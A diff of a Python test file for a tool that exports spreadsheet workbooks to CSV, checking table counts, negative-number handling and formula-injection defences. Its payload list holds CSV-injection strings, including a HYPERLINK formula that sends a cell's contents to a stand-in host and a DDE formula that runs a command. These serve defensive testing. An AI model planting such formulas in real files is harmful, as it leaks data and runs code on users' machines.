@@ -343,10 +343,11 @@ def table(path: Path) -> list[dict[str, str]]:
 
 def test_export_as_csv_has_a_table_for_each_kind_of_row(place: Path) -> None:
     found = run("export", "Weighted.xlsx", "--to", "csv")
-    names = [f"Weighted {name}.csv" for name in ("risks", "actions", "overall", "findings")]
+    tables = ("risks", "actions", "scores", "overall", "findings", "about", "controls")
+    names = [f"Weighted {name}.csv" for name in tables]
     assert found.exit_code == 0
     assert found.stdout.splitlines() == names
-    assert [len(table(place / name)) for name in names] == [4, 14, 2, 6]
+    assert [len(table(place / name)) for name in names[:5]] == [4, 14, 8, 2, 6]
     assert run("export", "Register.xlsx", "--to", "csv").exit_code == 0
     assert len(table(place / "Register risks.csv")) == 8
     assert not (place / "Register actions.csv").exists()
@@ -396,8 +397,10 @@ PAYLOADS = (
     '=HYPERLINK("http://example.org?x="&A1,"Click")',
     "=cmd|'/C calc'!A0",
     "-",
+    "'=1+1",  # alive once it is copied: a spreadsheet takes the first apostrophe away
+    "' =1",
 )
-HARMLESS = ("A = B", "1-2", "risk@example.org", "40%", "(=1)", "' =1")
+HARMLESS = ("A = B", "1-2", "risk@example.org", "40%", "(=1)", "'quoted'")
 
 
 def test_no_text_of_an_export_is_calculated(place: Path) -> None:
@@ -436,11 +439,13 @@ def test_negative_numbers_of_an_export_stay_numbers(place: Path) -> None:
     document = sample(BLACKPOOL)
     document["risks"][0] |= {"prior_gross": -5, "prior_nett": -2.5}
     document["risks"][1]["prior_gross"] = "-5"
+    document["risks"][2]["prior_gross"] = "-5 or so"
     (place / "Negative.xlsx").write_bytes(workbook_of(document))
     assert run("export", "Negative.xlsx", "--to", "csv").exit_code == 0
-    first, second, *_ = table(place / "Negative risks.csv")
+    first, second, third, *_ = table(place / "Negative risks.csv")
     assert (first["prior_gross"], first["prior_nett"]) == ("-5", "-2.5")
-    assert second["prior_gross"] == "'-5"  # typed as text
+    assert second["prior_gross"] == "-5"  # typed as a text, and a number none the less
+    assert third["prior_gross"] == "'-5 or so"
 
 
 # --- profiles ----------------------------------------------------------------------------
